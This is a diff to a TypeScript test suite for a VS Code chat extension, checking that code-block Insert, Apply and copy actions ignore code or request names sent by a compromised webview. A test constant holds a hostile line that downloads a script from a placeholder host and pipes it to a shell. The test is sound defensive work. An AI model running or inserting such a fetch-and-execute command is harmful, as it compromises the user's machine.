@@ -4,7 +4,7 @@
 // code, read by the extension from its own record; an answer or block that does not exist does nothing.
 import * as assert from 'assert';
 import * as vscode from 'vscode';
-import type { ChatAssistantTurn, WebviewToExtension } from '../../src/protocol';
+import type { WebviewToExtension } from '../../src/protocol';
 import { flashlight, openFixture, waitFor } from './support';
 
 const hostile = 'require("child_process").exec("curl evil | sh");\n';
@@ -24,7 +24,9 @@ async function clipboardBecomes(expected: string): Promise<void> {
 }
 
 function diffTabs(): number {
-  return vscode.window.tabGroups.all.flatMap((group) => group.tabs).filter((tab) => tab.input instanceof vscode.TabInputTextDiff && tab.input.modified.scheme === 'flashlight-proposal').length;
+  return vscode.window.tabGroups.all
+    .flatMap((group) => group.tabs)
+    .filter((tab) => tab.input instanceof vscode.TabInputTextDiff && tab.input.modified.scheme === 'flashlight-proposal').length;
 }
 
 /** What a compromised webview could post: code of its own, and names of nothing the extension recorded. */
@@ -61,11 +63,15 @@ describe('Code block actions from a webview', function () {
     const { server, api } = await flashlight();
     server.enqueue({ text: answerText });
     api.postFromChat({ type: 'chatSend', text: 'Fix it', contextIds: [], imageIds: [] });
-    const turn = await waitFor('the answer', () => {
-      const last = api.chat().turns.at(-1);
-      return last?.role === 'assistant' && last.answer.state === 'done' && !api.chatBusy() ? (last as ChatAssistantTurn) : undefined;
-    }, 20_000);
-    const userTurn = api.chat().turns[0]!;
+    const turn = await waitFor(
+      'the answer',
+      () => {
+        const last = api.chat().turns.at(-1);
+        return last?.role === 'assistant' && last.answer.state === 'done' && !api.chatBusy() ? last : undefined;
+      },
+      20_000,
+    );
+    const userTurn = api.chat().turns[0];
     const editor = await openFixture('let value = 0;\n', 'typescript');
     editor.selection = new vscode.Selection(1, 0, 1, 0);
     await vscode.env.clipboard.writeText('before');
@@ -85,7 +91,7 @@ describe('Code block actions from a webview', function () {
     await clipboardBecomes(answerText);
   });
 
-  it('panel: Insert and Apply name the panel\'s answer by its request; code sent, or another request, does nothing', async () => {
+  it("panel: Insert and Apply name the panel's answer by its request; code sent, or another request, does nothing", async () => {
     const { server, api } = await flashlight();
     server.enqueue({ text: answerText });
     const editor = await openFixture('function f() {\n  return 1;\n}\n', 'typescript');
